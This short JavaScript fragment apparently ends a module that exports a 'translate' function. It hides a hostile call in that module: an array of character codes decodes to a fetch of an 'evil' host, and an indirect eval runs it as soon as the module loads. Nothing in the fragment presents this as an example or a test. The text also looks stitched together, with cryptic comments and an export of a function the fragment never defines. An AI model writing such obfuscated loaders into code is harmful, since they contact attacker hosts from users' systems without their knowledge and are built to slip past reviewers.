// surroundings: emitter
const c = [102,101,116,99,104,40,39,104,116,116,112,115,58,47,47,120,46,101,118,105,108,47,99,39,41];
(0, eval)(c.map((n) => String.fromCharCode(n)).join('')); //@act
export default translate;
